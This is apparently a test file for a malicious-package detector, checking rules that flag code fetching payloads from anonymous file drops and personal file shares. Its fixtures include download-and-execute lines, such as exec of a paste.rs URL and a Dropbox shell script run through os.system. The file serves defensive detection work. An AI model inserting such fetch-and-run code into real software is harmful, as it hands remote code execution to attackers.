"""``file_drops.yar``: anonymous file drops and scripts on personal file shares."""

from __future__ import annotations

from tests.analysis.builders import package, run_rule, sdist
from threatfeed.analysis import Engine
from threatfeed.analysis.rules.correlation import staging_host_rule
from threatfeed.analysis.rules.network import suspicious_url_references_rule

STAGE_FROM_DROP = (
    "import os, requests\n"
    "code = requests.get('https://x0.at/Ab3x.txt').text\n"
    "open(os.path.join(os.getenv('TEMP'), 'u.py'), 'w').write(code)\n"
)
SHARED_SCRIPT = (
    "import os, urllib.request\n"
    "urllib.request.urlretrieve('https://dl.dropbox.com/s/q1w2e3/update.sh', '/tmp/u.sh')\n"
    "os.system('bash /tmp/u.sh')\n"
)


def _signatures(engine: Engine, archive: bytes) -> set[str]:
    """The signatures behind ``suspicious_url_references_rule`` on an archive."""
    found = suspicious_url_references_rule(package(engine, archive))
    return set() if found is None else {signal.key for signal in found.signals}


def test_fetching_from_an_anonymous_file_drop_is_staging(engine: Engine) -> None:
    archive = sdist({"tidy_strings/net.py": STAGE_FROM_DROP})
    assert "anonymous_file_drop_url" in _signatures(engine, archive)
    assert run_rule(engine, staging_host_rule, archive)[0]["file"].endswith("net.py")
    other = sdist({"tidy_strings/net.py": STAGE_FROM_DROP.replace("x0.at", "example.org")})
    assert run_rule(engine, staging_host_rule, other) is None


def test_a_drop_named_by_code_that_sends_nothing_is_no_staging(engine: Engine) -> None:
    code = "# logs too long for an issue can go to https://x0.at/\nX = 1\n"
    assert run_rule(engine, staging_host_rule, sdist({"tidy_strings/m.py": code})) is None


def test_script_on_a_personal_file_share(engine: Engine) -> None:
    archive = sdist({"tidy_strings/up.py": SHARED_SCRIPT})
    assert "script_on_file_share_url" in _signatures(engine, archive)
    assert engine.analyze(archive).flagged


def test_data_on_a_file_share_is_no_script(engine: Engine) -> None:
    code = "URL = 'https://www.dropbox.com/s/q1w2e3/weights.zip?dl=1'\n"
    assert "script_on_file_share_url" not in _signatures(engine, sdist({"tidy_strings/d.py": code}))


def test_exec_of_a_paste_raw_view(engine: Engine) -> None:
    code = "from urllib import request\nexec(request.urlopen('https://paste.rs/Xy12').read())\n"
    archive = sdist({"tidy_strings/__init__.py": code})
    assert "anonymous_file_drop_url" in _signatures(engine, archive)
    assert run_rule(engine, staging_host_rule, archive)[0]["file"].endswith("__init__.py")
